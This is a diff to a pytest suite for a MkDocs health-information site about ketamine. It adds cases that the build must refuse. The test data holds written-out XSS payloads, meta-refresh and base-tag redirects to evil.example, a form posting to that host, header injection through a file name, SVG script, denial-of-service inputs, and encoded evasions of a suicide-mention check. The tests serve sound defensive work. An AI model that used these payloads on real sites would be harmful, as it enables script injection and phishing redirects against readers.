@@ -38,6 +38,7 @@ def good(site_dir) -> dict[str, bytes]:
     return snapshot(site_dir)
 
 
+HTML = "the built pages hold what the site does not publish:\n"
 REFUSED = {
     # name: (file, text there, replacement, what the message starts with; {line} is where the replacement landed)
     "title-closes-the-title-tag": ("docs/ketamine.md", "title: What is ketamine?", f"title: What is ketamine?</title>{ALERT}", "docs/ketamine.md, line {line}: title: contains HTML"),
@@ -49,7 +50,7 @@ REFUSED = {
     "javascript-link": ("docs/uses.md", "Ketamine’s quick", "[Read more](javascript:alert(1))\n\nKetamine’s quick", "docs/uses.md, line {line}: a javascript: link"),
     # On a page of our own words (no article check), so only the finished-site check stands in the way.
     "entity-encoded-javascript-link": ("docs/privacy.md", "## Links to other sites", '<a href="&#106;avascript:alert(1)">x</a>\n\n## Links to other sites',
-                                       "the finished site has problems:\n  docs/privacy.md (built as privacy/index.html): <a href=\"javascript:alert(1)\">: a javascript: URL"),
+                                       f"{HTML}  docs/privacy.md, line {{line}} (built as privacy/index.html): <a href=\"javascript:alert(1)\">: a javascript: address"),
     "table-caption": ("data/side-effects.yml", "    caption: Side effects", f"    caption: {ALERT} Side effects", "data/side-effects.yml, line {line}: tables.side-effects.caption: contains HTML"),
     "glossary-term": ("data/glossary.yml", "  - term: IM\n", "  - term: IM <img src=x onerror=alert(1)>\n", "data/glossary.yml, line {line}: terms[12].term: contains HTML"),
     "menu-label": ("mkdocs.yml", "  - Glossary: glossary.md", "  - Glossary<img src=x>: glossary.md", "mkdocs.yml: nav: 'Glossary<img src=x>': may not contain < > &"),
@@ -70,6 +71,98 @@ def test_an_attack_stops_the_build_naming_its_source(tmp_path, site_dir, good, n
     shutil.copytree(site_dir, target)
     error = build_fails(project, target)
     assert error.startswith(message), error
+    assert snapshot(target) == good, "the published folder changed"
+
+
+# Round two (issue 36): what reached readers when the checks read Markdown line by line. Each is judged
+# on the finished HTML now. name: (file, text there, replacement, the text on the line the message must
+# name (or None: the page, no line), what the message says after the file and line).
+FENCE = "```\n"  # a lone, unclosed fence: the line checks used to read the rest of the page as code
+LINKS = "## Links to other sites {#links}"
+ROUND_TWO = {
+    "link-title-tooltip-refresh": ("docs/about.md", "## Who it is for", '[the FDA](https://www.fda.gov/ "&lt;meta http-equiv=refresh '
+                                   'content=0;url=https://evil.example/&gt;FDA")\n\n## Who it is for', "[the FDA]", "<a title="),
+    "abbreviation-tooltip-script": ("docs/about.md", "## Who it is for", "*[FDA]: &lt;img src=x onerror=alert(1)&gt;\n\n## Who it is for",
+                                    "*[FDA]", "<abbr title="),
+    "refresh-after-unclosed-fence": ("docs/privacy.md", LINKS, f"{FENCE}\n{LINKS}\n\n<meta http-equiv=\"refresh\" content=\"8;url=https://evil.example/\">",
+                                     "<meta http-equiv", "a <meta http-equiv> element"),
+    "base-after-odd-fence": ("docs/privacy.md", LINKS, f"``` bad info!\n\n{LINKS}\n\n<base href=\"https://evil.example/\">", "<base", "a <base> element"),
+    "iframe-after-indented-fence": ("docs/privacy.md", LINKS, f"    ```\n\n{LINKS}\n\n<iframe src=\"https://evil.example/\"></iframe>", "<iframe", "a <iframe> element"),
+    "form-after-fence": ("docs/privacy.md", LINKS, f"{FENCE}\n{LINKS}\n\n<form action=\"https://evil.example/\"><input name=q></form>", "<form", "a <form>"),
+    "style-after-fence": ("docs/privacy.md", LINKS, f"{FENCE}\n{LINKS}\n\n<style>body{{display:none}}</style>", "<style", "a <style> element"),
+    "handler-over-two-lines": ("docs/privacy.md", LINKS, f"{LINKS}\n\n<img src=x\nonerror=\"new WebSocket('ws://127.0.0.1:9/')\">", "onerror", "<img onerror=...>: an event handler"),
+    "handler-in-attribute-list": ("docs/privacy.md", "## Links to other sites {#links}", "## Links to other sites {#links onmouseover=alert(1)}",
+                                  "onmouseover", "<h2 onmouseover=...>: an event handler"),
+    "mention-after-fence": ("docs/privacy.md", LINKS, f"{FENCE}\n{LINKS}\n\nSome readers have thoughts of suicide.", "thoughts of suicide",
+                            "mentions suicide or self-harm"),
+    "mention-as-entity": ("docs/privacy.md", LINKS, f"{LINKS}\n\nSome readers have sui&#99;idal thoughts.", "sui&#99;idal", "mentions suicide or self-harm"),
+    "mention-with-soft-hyphen": ("docs/privacy.md", LINKS, f"{LINKS}\n\nSome readers have sui\u00adcidal thoughts.", None, "mentions suicide or self-harm"),
+    "mention-in-other-words": ("docs/privacy.md", LINKS, f"{LINKS}\n\nSome readers want to kill myself, they say.", "kill myself", "mentions suicide or self-harm"),
+    "mention-in-description": ("docs/privacy.md", "description: ", "description: For people with suicidal thoughts. ", "suicidal", "mentions suicide or self-harm"),
+    "help-box-folded-away": ("docs/privacy.md", LINKS, f"{LINKS}\n\nThoughts of suicide.\n\n<details markdown><summary>Help</summary>\n\n--8<-- \"urgent-help.md\"\n\n</details>",
+                             "Thoughts of suicide", "mentions suicide or self-harm"),
+}
+
+
+@pytest.mark.parametrize("name", list(ROUND_TWO))
+def test_an_attack_on_the_finished_html_stops_the_build_naming_its_source(tmp_path, site_dir, good, name):
+    path, before, after, on_line, says = ROUND_TWO[name]
+    project = copy_project(tmp_path)
+    edit(project, path, before, after)
+    page = path.removeprefix("docs/").removesuffix(".md") + "/index.html"
+    where = f"{path}, line {line_of(project / path, on_line)}" if on_line else path
+    target = tmp_path / "site"
+    shutil.copytree(site_dir, target)
+    started = time.monotonic()
+    error = build_fails(project, target)
+    # Stopped on the finished HTML, or (where the line checks see it) before MkDocs, at the same line.
+    assert (error.startswith(HTML) and f"\n  {where} (built as {page}): {says}" in error) or error.startswith(f"{where}: "), error
+    assert time.monotonic() - started < 30
+    assert snapshot(target) == good, "the published folder changed"
+
+
+def _hard_link(project: Path) -> None:
+    os.link(project / "docs" / "privacy.md", project / "docs" / "copy.md")
+
+
+FILES_REFUSED = {
+    # name: (make the file in the project, what the message starts with)
+    "html-page": (lambda p: (p / "docs/offer.html").write_text('<script src="offer.js"></script>'), "docs/offer.html: is a .html file"),
+    "script-outside-assets": (lambda p: (p / "docs/offer.js").write_text("alert(1)"), "docs/offer.js: is a .js file"),
+    "text-snippet": (lambda p: (p / "docs/_snippets/note.txt").write_text("<iframe src=x></iframe>"), "docs/_snippets/note.txt: is a .txt file"),
+    "svg-with-script": (lambda p: (p / "docs/assets/images/logo.svg").write_text("<svg><script>alert(1)</script></svg>"),
+                        "docs/assets/images/logo.svg: is an SVG with a script"),
+    "pipe-named-md": (lambda p: os.mkfifo(p / "docs/wait.md"), "docs/wait.md: is not a file or a folder"),
+    "hard-link": (_hard_link, "docs/copy.md: is a hard link"),
+    "newline-in-a-name": (lambda p: (p / "docs/x\nRefresh: 0;url=https:evil.example.md").write_text("# x\n"), "'docs/x\\nRefresh"),
+    "a-line-of-brackets": (lambda p: (p / "docs/privacy.md").write_text((p / "docs/privacy.md").read_text() + "[" * 100_000 + "\n"),
+                           "docs/privacy.md, line"),
+    "backticks": (lambda p: (p / "docs/privacy.md").write_text((p / "docs/privacy.md").read_text() + "x" + "`" * 20_000 + "\n"),
+                  "docs/privacy.md, line"),
+    "a-line-of-tags": (lambda p: (p / "docs/privacy.md").write_text((p / "docs/privacy.md").read_text() + "<a " * 170_000 + "\n"),
+                       "docs/privacy.md, line"),
+    "nested-lists": (lambda p: (p / "docs/privacy.md").write_text((p / "docs/privacy.md").read_text() + "".join("  " * i + "- x\n" for i in range(300))),
+                     "docs/privacy.md, line"),
+    "nested-divs": (lambda p: (p / "docs/privacy.md").write_text((p / "docs/privacy.md").read_text() + "<div markdown>\n\n" * 3000), "docs/privacy.md, line"),
+    "copyright-base": (lambda p: edit(p, "mkdocs.yml", "site_name:", "copyright: '<base href=\"https://evil.example/\">'\nsite_name:"),
+                       "mkdocs.yml: copyright: may not contain"),
+    "description-refresh": (lambda p: edit(p, "mkdocs.yml", "site_description: ", "site_description: <meta http-equiv=refresh content=0;url=https://evil.example/> "),
+                            "mkdocs.yml: site_description: may not contain"),
+    "title-right-to-left": (lambda p: edit(p, "docs/privacy.md", "title: ", "title: \u202e"), "docs/privacy.md, line 2: title: contains an invisible character"),
+}
+
+
+@pytest.mark.parametrize("name", list(FILES_REFUSED))
+def test_a_file_the_site_may_not_publish_stops_the_build_at_once(tmp_path, site_dir, good, name):
+    make_it, message = FILES_REFUSED[name]
+    project = copy_project(tmp_path)
+    make_it(project)
+    target = tmp_path / "site"
+    shutil.copytree(site_dir, target)
+    started = time.monotonic()
+    error = build_fails(project, target)
+    assert error.startswith(message), error
+    assert time.monotonic() - started < 30, "a time bomb must end within 30 s"
     assert snapshot(target) == good, "the published folder changed"
 
 
